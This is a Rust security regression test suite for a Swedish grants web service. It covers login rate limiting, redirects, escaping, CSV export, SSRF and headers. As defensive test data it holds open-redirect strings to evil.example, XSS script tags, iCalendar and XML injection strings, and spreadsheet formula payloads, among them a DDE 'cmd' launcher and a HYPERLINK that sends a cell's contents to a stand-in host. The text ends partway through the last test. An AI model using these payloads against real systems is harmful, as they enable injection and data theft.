//! The attack suite: what an attacker tried against the service, each kept
//! as a test so that no defence can quietly regress. See docs/SECURITY.md for
//! the threat model and where each defence lives. (Cross-site request forgery
//! and role checks on every write route are in `editor.rs`; the link
//! checker's refusal of internal addresses in `links.rs`.)

mod common;

use std::net::{IpAddr, SocketAddr};
use std::time::Duration;

use axum::Router;
use axum::body::Body;
use axum::extract::ConnectInfo;
use axum::http::{Method, Request, StatusCode, header};
use common::http::*;
use futures_util::StreamExt;
use samverkan_store::Role;
use samverkan_web::{AppState, router};

async fn setup() -> (AppState, Router, tempfile::TempDir) {
    let (state, dir) = common::seeded_state().await;
    add_user(&state.store, "redaktor", Role::Editor).await;
    add_user(&state.store, "admin", Role::Admin).await;
    let app = router(state.clone());
    (state, app, dir)
}

/// A login form's token and the cookie that goes with it.
async fn login_form(app: &Router) -> (String, String) {
    let form = send(app, get("/redaktion/logga-in", None)).await;
    let token = form.csrf();
    (token.clone(), format!("samverkan-login={token}"))
}

fn login_request(
    cookie: &str,
    token: &str,
    user: &str,
    password: &str,
    next: &str,
    from: Option<IpAddr>,
) -> Request<Body> {
    let mut request = post_form(
        "/redaktion/logga-in",
        Some(cookie),
        &[
            ("username", user),
            ("password", password),
            ("csrf", token),
            ("next", next),
        ],
    );
    if let Some(ip) = from {
        request
            .extensions_mut()
            .insert(ConnectInfo(SocketAddr::new(ip, 40000)));
    }
    request
}

fn has_session(answer: &Answer) -> bool {
    answer
        .set_cookies()
        .iter()
        .any(|c| c.starts_with("samverkan-session=") && !c.starts_with("samverkan-session=;"))
}

// ------------------------------------------------------------ 1. the limiter

/// The real server, on a socket, so that the peer address is what it is.
async fn serve(state: AppState) -> SocketAddr {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(samverkan_web::serve(listener, state, std::future::pending()));
    addr
}

/// A client whose connections come from `from` (any of 127.0.0.0/8 on Linux).
fn client_from(from: &str) -> reqwest::Client {
    reqwest::Client::builder()
        .local_address(from.parse::<IpAddr>().unwrap())
        .redirect(reqwest::redirect::Policy::none())
        .no_proxy()
        .build()
        .unwrap()
}

/// Signs in over the socket; returns the status of the login POST.
async fn login_over_socket(
    client: &reqwest::Client,
    base: &str,
    user: &str,
    password: &str,
    forwarded_for: Option<&str>,
) -> StatusCode {
    let form = client
        .get(format!("{base}/redaktion/logga-in"))
        .send()
        .await
        .unwrap();
    let html = form.text().await.unwrap();
    let token = {
        let marker = "name=\"csrf\" value=\"";
        let start = html.find(marker).unwrap() + marker.len();
        html[start..start + html[start..].find('"').unwrap()].to_string()
    };
    let mut request = client
        .post(format!("{base}/redaktion/logga-in"))
        .header("cookie", format!("samverkan-login={token}"))
        .form(&[("username", user), ("password", password), ("csrf", &token)]);
    if let Some(f) = forwarded_for {
        request = request.header("x-forwarded-for", f);
    }
    let status = request.send().await.unwrap().status();
    StatusCode::from_u16(status.as_u16()).unwrap()
}

#[tokio::test]
async fn failed_logins_from_one_address_do_not_lock_out_editors_at_another() {
    let (state, _app, _dir) = setup().await;
    let base = format!("http://{}", serve(state).await);
    let attacker = client_from("127.0.0.2");
    // Made-up names from one address, until that address is stopped.
    let mut statuses = Vec::new();
    for i in 0..samverkan_web::auth::limiter::MAX_FAILURES_PER_ADDRESS + 2 {
        statuses
            .push(login_over_socket(&attacker, &base, &format!("finns-inte-{i}"), "gissning", None).await);
    }
    assert_eq!(
        statuses.last(),
        Some(&StatusCode::TOO_MANY_REQUESTS),
        "{statuses:?}"
    );
    // The editor, at another address, signs in.
    let editor = client_from("127.0.0.1");
    assert_eq!(
        login_over_socket(&editor, &base, "redaktor", PASSWORD, None).await,
        StatusCode::SEE_OTHER
    );
    // Without a trusted proxy, X-Forwarded-For does not let the attacker
    // appear as someone new.
    assert_eq!(
        login_over_socket(&attacker, &base, "redaktor", "gissning", Some("203.0.113.9")).await,
        StatusCode::TOO_MANY_REQUESTS
    );
}

#[tokio::test]
async fn behind_a_trusted_proxy_the_forwarded_address_is_the_client() {
    let (mut state, _app, _dir) = setup().await;
    std::sync::Arc::make_mut(&mut state.config).trusted_proxies = vec!["127.0.0.1".parse().unwrap()];
    let base = format!("http://{}", serve(state).await);
    let proxy = client_from("127.0.0.1");
    for i in 0..samverkan_web::auth::limiter::MAX_FAILURES_PER_ADDRESS + 1 {
        login_over_socket(&proxy, &base, &format!("x{i}"), "gissning", Some("198.51.100.1")).await;
    }
    assert_eq!(
        login_over_socket(&proxy, &base, "redaktor", PASSWORD, Some("198.51.100.1")).await,
        StatusCode::TOO_MANY_REQUESTS,
        "the guessing client is stopped"
    );
    assert_eq!(
        login_over_socket(&proxy, &base, "redaktor", PASSWORD, Some("198.51.100.2")).await,
        StatusCode::SEE_OTHER,
        "another client behind the same proxy is not"
    );
}

#[tokio::test]
async fn strangers_guessing_an_account_cannot_lock_its_owner_out() {
    let (_state, app, _dir) = setup().await;
    let (token, cookie) = login_form(&app).await;
    // Fifteen strangers at fifteen addresses, one guess each. (Beyond
    // limiter::UNDER_ATTACK, fresh addresses share a pace of one guess per
    // 15 seconds; the unit tests show the owner then waits at most that.)
    for i in 0..15u8 {
        let from = IpAddr::from([198, 51, 100, i]);
        let answer = send(
            &app,
            login_request(&cookie, &token, "redaktor", "gissning", "/redaktion", Some(from)),
        )
        .await;
        assert_eq!(answer.status, StatusCode::UNAUTHORIZED);
    }
    // A second guess from a stranger is slowed down.
    let again = send(
        &app,
        login_request(
            &cookie,
            &token,
            "redaktor",
            "gissning",
            "/redaktion",
            Some(IpAddr::from([198, 51, 100, 3])),
        ),
    )
    .await;
    assert_eq!(again.status, StatusCode::TOO_MANY_REQUESTS);
    // The owner, from their own address, gets in.
    let owner = send(
        &app,
        login_request(
            &cookie,
            &token,
            "redaktor",
            PASSWORD,
            "/redaktion",
            Some(IpAddr::from([192, 0, 2, 50])),
        ),
    )
    .await;
    assert_eq!(owner.status, StatusCode::SEE_OTHER, "{}", owner.body);
    assert!(has_session(&owner));
}

// ------------------------------------------------------- 2. bursts of guesses

#[tokio::test]
async fn a_burst_of_simultaneous_guesses_is_counted_before_the_passwords_are_hashed() {
    let (_state, app, _dir) = setup().await;
    let (token, cookie) = login_form(&app).await;
    let from = Some(IpAddr::from([192, 0, 2, 77]));
    let burst = (0..24).map(|i| {
        let app = app.clone();
        let request = login_request(
            &cookie,
            &token,
            "redaktor",
            &format!("gissning {i}"),
            "/redaktion",
            from,
        );
        tokio::spawn(async move { send(&app, request).await.status })
    });
    let mut statuses = Vec::new();
    for task in burst {
        statuses.push(task.await.unwrap());
    }
    let checked = statuses
        .iter()
        .filter(|s| **s == StatusCode::UNAUTHORIZED)
        .count();
    assert!(
        checked <= samverkan_web::auth::limiter::MAX_FAILURES_PER_ACCOUNT,
        "{checked} guesses were checked: {statuses:?}"
    );
    assert!(
        statuses.iter().all(|s| [
            StatusCode::UNAUTHORIZED,
            StatusCode::TOO_MANY_REQUESTS,
            StatusCode::SERVICE_UNAVAILABLE
        ]
        .contains(s)),
        "{statuses:?}"
    );
    let right = send(
        &app,
        login_request(&cookie, &token, "redaktor", PASSWORD, "/redaktion", from),
    )
    .await;
    assert_eq!(
        right.status,
        StatusCode::TOO_MANY_REQUESTS,
        "the right password after the burst is refused too"
    );
    assert!(!has_session(&right));
}

// ------------------------------------------------------------ 3. redirects

#[tokio::test]
async fn after_login_the_editor_is_never_sent_to_another_site() {
    let (_state, app, _dir) = setup().await;
    for next in [
        "/\t/evil.example",
        "/%09/evil.example",
        "//evil.example",
        "/\\evil.example",
        "/%2f%2fevil.example",
        "/%5C%5Cevil.example",
        "/\n/evil.example",
        "https://evil.example/",
        "http:/evil.example",
        "/redaktion@evil.example",
        "@evil.example",
        "/redaktion/../../evil",
        "javascript:alert(1)",
    ] {
        let (token, cookie) = login_form(&app).await;
        let answer = send(
            &app,
            login_request(&cookie, &token, "admin", PASSWORD, next, None),
        )
        .await;
        assert_eq!(answer.status, StatusCode::SEE_OTHER, "{next:?}");
        assert_eq!(
            answer.location(),
            "/redaktion",
            "{next:?} led to {:?}",
            answer.location()
        );
        // The same value through the login page's query string.
        let query: String = form_urlencoded::byte_serialize(next.as_bytes()).collect();
        let page = send(&app, get(&format!("/redaktion/logga-in?next={query}"), None)).await;
        assert_eq!(
            hidden(&page.body, "next").as_deref(),
            Some("/redaktion"),
            "{next:?}"
        );
    }
    let (token, cookie) = login_form(&app).await;
    let back = send(
        &app,
        login_request(&cookie, &token, "admin", PASSWORD, "/redaktion/bidrag?q=bo", None),
    )
    .await;
    assert_eq!(
        back.location(),
        "/redaktion/bidrag?q=bo",
        "a page of the editors' area is returned to"
    );
}

// ----------------------------------------- 4–6. what editors type, everywhere

fn hostile_grant(id: &str, title: &str) -> serde_json::Value {
    serde_json::json!({
        "id": id,
        "title": title,
        "provider": "delmos",
        "deadline": "1 april",
        "areas": ["boende"],
        "applicants": ["ideell-forening"],
        "description": "<script>alert('beskrivning')</script>\n\nAndra stycket; med, tecken.",
        "url": "https://example.org/?a=1&b=<x>",
        "verified": "2026-11-25"
    })
}

async fn create_by_api(app: &Router, token: &str, entry: serde_json::Value, comment: &str) -> Answer {
    let body = serde_json::json!({"entry": entry, "comment": comment}).to_string();
    api(app, Method::POST, "/api/v1/grants", Some(token), Some(body)).await
}

#[tokio::test]
async fn control_and_bidi_characters_are_refused_in_forms_the_api_and_imports() {
    let (state, app, _dir) = setup().await;
    let (token, _) = token_for(&state.store, "redaktor").await;
    let before = state.store.entries(true).await.unwrap();
    for (title, code) in [
        ("Bidrag\r\nBEGIN:VEVENT", "U+000D"),
        ("Bidrag\u{b}", "U+000B"),
        ("Bidrag\u{0}", "U+0000"),
        ("Bidrag \u{202e}gnirts", "U+202E"),
        ("Bidrag \u{2066}x", "U+2066"),
        ("Bidrag\u{85}", "U+0085"),
    ] {
        let answer = create_by_api(&app, &token, hostile_grant("fientligt", title), "").await;
        assert_eq!(
            answer.status,
            StatusCode::UNPROCESSABLE_ENTITY,
            "{title:?}: {}",
            answer.body
        );
        assert!(
            answer.body.contains("title") && answer.body.contains(code),
            "{title:?}: {}",
            answer.body
        );
    }
    // A comment is shown in the history and the feed: the same rules.
    let answer = create_by_api(&app, &token, hostile_grant("fientligt", "Bidrag"), "rad\u{b}").await;
    assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", answer.body);
    assert!(answer.body.contains("comment"), "{}", answer.body);

    // The editors' form.
    let cookie = login(&app, "redaktor").await;
    let csrf = csrf_of(&app, &cookie).await;
    let form = send(
        &app,
        post_form(
            "/redaktion/ny/bidrag",
            Some(&cookie),
            &[
                ("csrf", &csrf),
                ("id", "fientligt"),
                ("title", "Bidrag \u{202e}gnirts"),
                ("provider", "delmos"),
                ("verified", "2026-11-25"),
            ],
        ),
    )
    .await;
    assert_eq!(form.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", form.body);
    assert!(form.body.contains("U+202E"), "the message names the character");

    // An import.
    let mut data = samverkan_domain::bundled::dataset().unwrap();
    data.grants[0].title.push('\u{0}');
    let imported = state
        .store
        .import(
            &data,
            &Default::default(),
            &samverkan_store::Change {
                author: "test",
                comment: "",
            },
        )
        .await;
    let message = imported.unwrap_err().to_string();
    assert!(
        message.contains("title") && message.contains("U+0000"),
        "{message}"
    );
    assert_eq!(
        state.store.entries(true).await.unwrap(),
        before,
        "nothing was stored"
    );
}

#[tokio::test]
async fn a_hostile_title_is_escaped_in_every_format() {
    let (state, app, _dir) = setup().await;
    let (token, _) = token_for(&state.store, "redaktor").await;
    let title = "=HYPERLINK(\"http://evil.example\";\"klicka\"), <script>alert(1)</script> \\ END:VEVENT; \"x\" & 'y'";
    let created = create_by_api(
        &app,
        &token,
        hostile_grant("fientligt", title),
        "<b>kommentar</b> & mer",
    )
    .await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);

    // HTML: the page, the finder, search, and the JSON-LD inside the page.
    for path in [
        "/bidrag/fientligt",
        "/bidrag?q=HYPERLINK",
        "/sok?q=HYPERLINK",
        "/en/grants/fientligt",
        "/",
    ] {
        let page = send(&app, get(path, None)).await;
        assert_eq!(page.status, StatusCode::OK, "{path}");
        assert!(
            !page.body.contains("<script>alert"),
            "{path}: the script tag is escaped"
        );
        assert!(!page.body.contains("<b>kommentar"), "{path}");
    }
    let page = send(&app, get("/bidrag/fientligt", None)).await.body;
    let json_ld = page
        .split(r#"<script type="application/ld+json">"#)
        .nth(1)
        .and_then(|rest| rest.split("</script>").next())
        .expect("the page has JSON-LD");
    let ld: serde_json::Value = serde_json::from_str(json_ld).expect("the JSON-LD ends where it should");
    assert_eq!(ld["name"], title);

    // Atom.
    let atom = send(&app, get("/andringar.atom", None)).await;
    assert!(!atom.body.contains("<script>") && !atom.body.contains("<b>kommentar"));
    assert!(
        atom.body.contains("&lt;b&gt;kommentar&lt;/b&gt; &amp; mer"),
        "{}",
        atom.body
    );

    // iCalendar: commas, semicolons and backslashes escaped, no line of its own.
    let ics = send(&app, get("/bidrag/fientligt/kalender.ics", None)).await.body;
    let unfolded = ics.replace("\r\n ", "");
    assert!(!unfolded.lines().any(|l| l.starts_with("END:VEVENT;")), "{ics}");
    assert_eq!(unfolded.matches("BEGIN:VEVENT").count(), 1, "{ics}");
    assert!(
        unfolded.contains("X-WR-CALNAME:=HYPERLINK(\"http://evil.example\"\\;\"klicka\")\\, <script>alert(1)</script> \\\\ END:VEVENT\\; \"x\" & 'y'"),
        "{unfolded}"
    );
    assert!(
        unfolded.contains("klicka\")\\, <script>"),
        "SUMMARY escaped too: {unfolded}"
    );

    // CSV: the formula is neutralised, and reads back as text.
    let csv_text = send(&app, get("/data/bidrag.csv", None)).await.body;
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let row = reader
        .records()
        .map(Result::unwrap)
        .find(|r| &r[0] == "fientligt")
        .expect("the grant is in the CSV");
    assert_eq!(&row[1], format!("'{title}"));
    // The Excel file too, read with its semicolons.
    let excel = send(&app, get("/data/bidrag-excel.csv", None)).await.body;
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(excel.trim_start_matches('\u{feff}').as_bytes());
    let row = reader
        .records()
        .map(Result::unwrap)
        .find(|r| &r[0] == "fientligt")
        .expect("the grant is in the Excel file");
    assert_eq!(&row[1], format!("'{title}"));
    // The open-data and API pages take no input; they answer the same.
    for path in ["/oppna-data?q=%3Cscript%3E", "/api?x=%22%3E%3Cscript%3E"] {
        let page = send(&app, get(path, None)).await;
        assert_eq!(page.status, StatusCode::OK);
        assert!(!page.body.contains("<script>"), "{path}");
    }
}

/// XML text with its character references read (the five named ones and
/// decimal ones, which is what the service writes).
fn unescape_xml(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find('&') {
        out.push_str(&rest[..at]);
        let Some(end) = rest[at..].find(';') else {
            out.push_str(&rest[at..]);
            return out;
        };
        let entity = &rest[at + 1..at + end];
        let decoded = match entity {
            "lt" => Some('<'),
            "gt" => Some('>'),
            "amp" => Some('&'),
            "quot" => Some('"'),
            "apos" => Some('\''),
            _ => entity
                .strip_prefix('#')
                .and_then(|n| n.parse::<u32>().ok())
                .and_then(char::from_u32),
        };
        match decoded {
            Some(c) => out.push(c),
            None => out.push_str(&rest[at..=at + end]),
        }
        rest = &rest[at + end + 1..];
    }
    out.push_str(rest);
    out
}

#[tokio::test]
async fn a_hostile_actor_name_is_escaped_in_the_overlap_diagram_the_sitemap_and_dcat() {
    let (mut state, _, _dir) = setup().await;
    std::sync::Arc::make_mut(&mut state.config).publisher = "Förlaget <script>alert(1)</script> & co".into();
    std::sync::Arc::make_mut(&mut state.config).contact_email = Some("a\"/><x:evil/>@example.org".into());
    let app = router(state.clone());
    let (token, _) = token_for(&state.store, "redaktor").await;
    let name = "Myndigheten </text><script>alert(1)</script> & \"co\"";
    let actor = serde_json::json!({
        "id": "fientlig-myndighet",
        "name": name,
        "kind": "myndighet",
        "mission": "Uppdrag.",
        "areas": [{"area": "boende", "role": "responsible"}],
        "verified": "2026-11-25"
    });
    let body = serde_json::json!({"entry": actor}).to_string();
    let created = api(&app, Method::POST, "/api/v1/actors", Some(&token), Some(body)).await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);

    let page = send(&app, get("/overlapp", None)).await;
    assert_eq!(page.status, StatusCode::OK);
    let svg = page
        .body
        .split("<svg")
        .nth(1)
        .and_then(|rest| rest.split("</svg>").next())
        .expect("the page has the diagram");
    assert!(
        !svg.contains("<script>") && !svg.contains("</text><script>"),
        "{svg}"
    );
    assert!(
        unescape_xml(svg).contains(&format!("<title>{name}</title>")),
        "the whole name is in the diagram, as text: {svg}"
    );

    let dcat = send(&app, get("/data/dcat.rdf", None)).await.body;
    assert!(
        !dcat.contains("<script>") && !dcat.contains("<x:evil/>"),
        "{dcat}"
    );
    assert!(
        unescape_xml(&dcat).contains("<foaf:name>Förlaget <script>alert(1)</script> & co</foaf:name>"),
        "{dcat}"
    );
    let sitemap = send(&app, get("/sitemap.xml", None)).await.body;
    assert!(sitemap.contains("/aktorer/fientlig-myndighet</loc>"), "{sitemap}");
}

#[tokio::test]
async fn a_formula_after_a_semicolon_or_a_line_break_stays_inside_its_cell() {
    let (state, app, _dir) = setup().await;
    let (token, _) = token_for(&state.store, "admin").await;
    let actor = serde_json::json!({
        "id": "semikolon",
        "name": "Förening;=HYPERLINK(\"https://evil.example/?\"&A1;\"Klicka\")",
        "kind": "organisation",
        "mission": "Första raden\n=HYPERLINK(\"https://evil.example\";\"x\")",
        "verified": "2026-11-25"
    });
    let body = serde_json::json!({"entry": actor}).to_string();
    let created = api(&app, Method::POST, "/api/v1/actors", Some(&token), Some(body)).await;
    assert_eq!(created.status, StatusCode::CREATED, "{}", created.body);
    let text = send(&app, get("/data/aktorer.csv", None)).await.body;
    // Read as Excel set to Swedish reads it: split on semicolons, quotes kept.
    for delimiter in [b',', b';'] {
        let mut reader = csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .has_headers(false)
            .flexible(true)
            .from_reader(text.as_bytes());
        for record in reader.records() {
            for cell in record.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '@']),
                    "a cell starts a formula when split on {:?}: {cell:?}",
                    delimiter as char
                );
            }
        }
    }
}

#[tokio::test]
async fn every_formula_opener_is_neutralised_in_the_csv_files() {
    use samverkan_web::exports::spreadsheet_safe;
    for risky in [
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "=HYPERLINK(\"x\")",
    ] {
        assert_eq!(
            spreadsheet_safe(risky.to_string()),
            format!("'{risky}"),
            "{risky:?}"
        );
    }
    for (cell, safe) in [
        ("Förening;=HYPERLINK(\"x\")", "Förening;'=HYPERLINK(\"x\")"),
        ("rad ett\n@SUM(A1)", "rad ett\n'@SUM(A1)"),
        ("a,+cmd|x", "a,'+cmd|x"),
        ("=1;=2", "'=1;'=2"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
    ] {
        assert_eq!(spreadsheet_safe(cell.to_string()), safe, "{cell:?}");
    }
    for inert in [
        "-3",
        "--04-01; --10-01",
        "Boverket",
        "",
        "12",
        "a=b",
        "kommun; region",
        "a; -1",
    ] {
        assert_eq!(spreadsheet_safe(inert.to_string()), inert, "{inert:?}");
    }
}

// ------------------------------------------------------------- 7. the link check

#[tokio::test]
async fn the_dashboards_link_check_does_not_reach_internal_services() {
    // The bundled data without its web addresses: the check asks only the one below.
    let mut data = samverkan_domain::bundled::dataset().unwrap();
    for a in &mut data.actors {
        a.website = None;
        a.added.clear();
    }
    for g in &mut data.grants {
        g.url = None;
        g.ended = false;
        g.added.clear();
    }
    let (state, _dir) = common::state_with(&data).await;
    add_user(&state.store, "admin", Role::Admin).await;
    let app = router(state.clone());
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = hits.clone();
    let internal = Router::new().fallback(move || {
        counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        async { "intern" }
    });
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let internal_addr = listener.local_addr().unwrap();
    tokio::spawn(async move { axum::serve(listener, internal).await.unwrap() });

    let (token, _) = token_for(&state.store, "admin").await;
    let mut grant = hostile_grant("intern-lank", "Bidrag med intern länk");
    grant["url"] = format!("http://{internal_addr}/redaktion/konton").into();
    assert_eq!(
        create_by_api(&app, &token, grant, "").await.status,
        StatusCode::CREATED
    );

    let cookie = login(&app, "admin").await;
    let csrf = csrf_of(&app, &cookie).await;
    let started = send(
        &app,
        post_form("/redaktion/lankkontroll", Some(&cookie), &[("csrf", &csrf)]),
    )
    .await;
    assert_eq!(started.status, StatusCode::SEE_OTHER, "{}", started.body);
    let url = format!("http://{internal_addr}/redaktion/konton");
    let mut result = None;
    for _ in 0..100 {
        let checks = state.store.link_checks().await.unwrap();
        if let Some(c) = checks.into_iter().find(|c| c.url == url) {
            result = Some(c);
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let result = result.expect("the link check finished");
    assert!(!result.ok && result.status.is_none(), "{result:?}");
    assert!(
        result
            .error
            .as_deref()
            .unwrap_or("")
            .contains("not a public address"),
        "{result:?}"
    );
    assert_eq!(
        hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "the internal service was never asked"
    );
}

// ---------------------------------------------------------- 8. and the headers

#[tokio::test]
async fn over_https_every_answer_asks_for_https_from_then_on() {
    let (mut state, _app, _dir) = setup().await;
    std::sync::Arc::make_mut(&mut state.config).public_url = Some("https://samverkan.example".into());
    let app = router(state.clone());
    for path in ["/", "/api/v1/grants", "/redaktion/logga-in", "/finns-inte"] {
        let answer = send(&app, get(path, None)).await;
        assert_eq!(
            answer
                .headers
                .get(header::STRICT_TRANSPORT_SECURITY)
                .map(|v| v.to_str().unwrap()),
            Some("max-age=63072000"),
            "{path}"
        );
    }
    let plain = router(common::seeded_state().await.0);
    assert!(
        send(&plain, get("/", None))
            .await
            .headers
            .get(header::STRICT_TRANSPORT_SECURITY)
            .is_none(),
        "not over plain http, where it would be ignored or wrong"
    );
}

fn assert_secured(answer: &Answer, what: &str) {
    for name in [
        header::CONTENT_SECURITY_POLICY,
        header::X_CONTENT_TYPE_OPTIONS,
        header::X_FRAME_OPTIONS,
        header::REFERRER_POLICY,
    ] {
        assert!(answer.headers.contains_key(&name), "{what}: no {name}");
    }
}

#[tokio::test]
async fn refusals_by_the_body_limit_and_the_timeout_carry_the_security_headers() {
    let (state, app, _dir) = setup().await;
    let (token, _) = token_for(&state.store, "redaktor").await;
    let big = Request::post("/api/v1/grants")
        .header(header::HOST, "localhost")
        .header(header::AUTHORIZATION, format!("Bearer {token}"))
        .header(header::CONTENT_TYPE, "application/json")
        .body(Body::from(vec![b' '; samverkan_web::MAX_BODY + 1]))
        .unwrap();
    let answer = send(&app, big).await;
    assert_eq!(answer.status, StatusCode::PAYLOAD_TOO_LARGE);
    assert_secured(&answer, "413");
    assert_eq!(answer.headers.get(header::CACHE_CONTROL).unwrap(), "no-store");

    // A body that never ends.
    let stalling = futures_util::stream::once(async {
        Ok::<_, std::io::Error>(axum::body::Bytes::from_static(b"username="))
    })
    .chain(futures_util::stream::pending());
    let slow = Request::post("/redaktion/logga-in")
        .header(header::HOST, "localhost")
        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
        .body(Body::from_stream(stalling))
        .unwrap();
    let answer = send(&app, slow).await;
    assert_eq!(answer.status, StatusCode::REQUEST_TIMEOUT);
    assert_secured(&answer, "408");
}

#[tokio::test]
async fn private_answers_are_never_stored_by_caches() {
    let (state, app, _dir) = setup().await;
    let (token, _) = token_for(&state.store, "redaktor").await;
    let cases = [
        (Method::DELETE, "/redaktion", None),
        (Method::PUT, "/redaktion/logga-in", None),
        (
            Method::GET,
            "/api/v1/grants/bra-utvardering/revisions",
            Some(token.as_str()),
        ),
        (Method::GET, "/api/v1/grants/bra-utvardering/revisions", None),
        (Method::POST, "/api/v1/revisions/1/restore", None),
        // The alert pages carry addresses and tokens.
        (Method::GET, "/bevaka?area=boende", None),
        (Method::GET, "/bevaka/hantera?t=m.x.1.y", None),
        (Method::GET, "/bevaka/bekrafta?t=x", None),
        (Method::GET, "/en/alerts/unsubscribe?t=u.x.1.y", None),
        (Method::GET, "/en/alerts/mine", None),
    ];
    for (method, path, token) in cases {
        let answer = api(&app, method.clone(), path, token, None).await;
        assert_eq!(
            answer
                .headers
                .get(header::CACHE_CONTROL)
                .map(|v| v.to_str().unwrap()),
            Some("no-store"),
            "{method} {path} → {}",
            answer.status
        );
    }
    let public = send(&app, get("/bidrag", None)).await;
    assert_ne!(
        public
            .headers
            .get(header::CACHE_CONTROL)
            .map(|v| v.to_str().unwrap()),
        Some("no-store")
    );
}

// ------------------------------------------------------------- the rest

#[tokio::test]
async fn only_actors_grants_and_initiatives_can_be_restored_through_the_api() {
    let (state, app, _dir) = setup().await;
    let (token, _) = token_for(&state.store, "admin").await;
    let area_revision = state
        .store
        .history(samverkan_domain::EntryKind::Area, "boende")
        .await
        .unwrap()
        .first()
        .expect("the area has a revision")
        .id;
    let before = state.store.entries(true).await.unwrap();
    let answer = api(
        &app,
        Method::POST,
        &format!("/api/v1/revisions/{area_revision}/restore"),
        Some(&token),
        Some("{}".into()),
    )
    .await;
    assert_eq!(answer.status, StatusCode::UNPROCESSABLE_ENTITY, "{}", answer.body);
    assert!(answer.body.contains("not_editable"), "{}", answer.body);
    assert_eq!(state.store.entries(true).await.unwrap(), before);
}

#[tokio::test]
async fn a_form_from_an_https_origin_is_refused_on_the_http_site() {
    let (_state, app, _dir) = setup().await;
    let cookie = login(&app, "redaktor").await;
    let csrf = csrf_of(&app, &cookie).await;
    for (origin, expected) in [
        ("https://localhost", StatusCode::FORBIDDEN),
        ("http://localhost.evil.example", StatusCode::FORBIDDEN),
        ("http://localhost:8080", StatusCode::FORBIDDEN),
        ("http://localhost", StatusCode::SEE_OTHER),
    ] {
        let request = post_pairs(
            "/redaktion/bidrag/bra-utvardering/kontrollerad",
            Some(&cookie),
            &[("csrf", csrf.as_str()), ("version", "1")],
            Some(origin),
        );
        let answer = send(&app, request).await;
        assert_eq!(answer.status, expected, "{origin}: {}", answer.body);
    }
}

#[tokio::test]
async fn the_host_header_does_not_change_links_in_cached_files() {
    let (_state, app, _dir) = setup().await;
    for path in [
        "/sitemap.xml",
        "/data/dcat.rdf",
        "/andringar.atom",
        "/bidrag.ics",
        "/robots.txt",
        "/bidrag/bra-utvardering",
    ] {
        let request = Request::get(path)
            .header(header::HOST, "evil.example")
            .header("x-forwarded-proto", "https")
            .body(Body::empty())
            .unwrap();
        let answer = send(&app, request).await;
        assert_eq!(answer.status, StatusCode::OK, "{path}");
        assert!(
            !answer.body.contains("evil.example"),
            "{path} took its links from the Host header"
        );
    }
}

#[tokio::test]
async fn sessions_are_capped_listed_and_can_all_be_ended() {
    let (_state, app, _dir) = setup().await;
    let max = samverkan_web::auth::session::MAX_SESSIONS_PER_ACCOUNT as usize;
    let mut cookies = Vec::new();
    for _ in 0..max + 3 {
        cookies.push(login(&app, "redaktor").await);
        tokio::time::sleep(Duration::from_millis(2)).await;
    }
    let newest = cookies.last().unwrap().clone();
    assert_eq!(
        send(&app, get("/redaktion", Some(&cookies[0]))).await.status,
        StatusCode::SEE_OTHER,
        "the oldest ended"
    );
    let page = send(&app, get("/redaktion/inloggningar", Some(&newest))).await;
    assert_eq!(page.status, StatusCode::OK);
    assert_eq!(
        page.body.matches("<tr><td><span class=\"nowrap\">").count(),
        max,
        "{}",
        page.body
    );
    assert!(page.body.contains("Den här webbläsaren"));
    let csrf = page.csrf();
    let ended = send(
        &app,
        post_form(
            "/redaktion/inloggningar/logga-ut-overallt",
            Some(&newest),
            &[("csrf", &csrf)],
        ),
    )
    .await;
    assert_eq!(ended.status, StatusCode::SEE_OTHER);
    assert_eq!(ended.location(), "/redaktion/logga-in");
    for cookie in &cookies {
        assert_eq!(
            send(&app, get("/redaktion", Some(cookie))).await.status,
            StatusCode::SEE_OTHER
        );
    }
}

#[tokio::test]
async fn sign_out_everywhere_refuses_strangers_forgeries_and_tokens() {
    let (state, app, _dir) = setup().await;
    let cookie = login(&app, "redaktor").await;
    let csrf = csrf_of(&app, &cookie).await;
    let (api_token, _) = token_for(&state.store, "admin").await;
    let path = "/redaktion/inloggningar/logga-ut-overallt";
    let still_signed_in = |what: &'static str| {
        let (app, cookie) = (app.clone(), cookie.clone());
        async move {
            assert_eq!(
                send(&app, get("/redaktion", Some(&cookie))).await.status,
                StatusCode::OK,
                "{what}"
            );
        }
    };
    // No session: sent to the login page, nothing ended.
    let stranger = send(&app, post_form(path, None, &[("csrf", csrf.as_str())])).await;
    assert_eq!(stranger.status, StatusCode::SEE_OTHER);
    assert!(stranger.location().starts_with("/redaktion/logga-in"));
    still_signed_in("no session").await;
    // No form token, a wrong one, from another site, or with only an API token.
    for (fields, origin, what) in [
        (vec![], None, "no form token"),
        (vec![("csrf", "fel")], None, "a wrong form token"),
        (
            vec![("csrf", csrf.as_str())],
            Some("http://evil.example"),
            "another site",
        ),
    ] {
        let answer = send(&app, post_pairs(path, Some(&cookie), &fields, origin)).await;
        assert_eq!(answer.status, StatusCode::FORBIDDEN, "{what}");
        still_signed_in(what).await;
    }
    let mut bearer = post_form(path, None, &[("csrf", csrf.as_str())]);
    bearer.headers_mut().insert(
        header::AUTHORIZATION,
        format!("Bearer {api_token}").parse().unwrap(),
    );
    assert_eq!(
        send(&app, bearer).await.status,
        StatusCode::SEE_OTHER,
        "an API token is no session"
    );
    still_signed_in("an API token").await;
    // The sign-ins page itself needs a session.
